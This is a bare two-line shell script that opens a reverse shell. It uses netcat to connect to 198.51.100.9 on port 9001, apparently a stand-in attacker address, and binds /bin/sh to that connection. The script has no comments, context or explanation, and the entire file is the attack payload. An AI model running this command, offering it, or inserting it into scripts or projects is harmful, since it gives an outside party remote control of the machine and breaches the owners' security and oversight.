#!/bin/sh
nc -e /bin/sh 198.51.100.9 9001
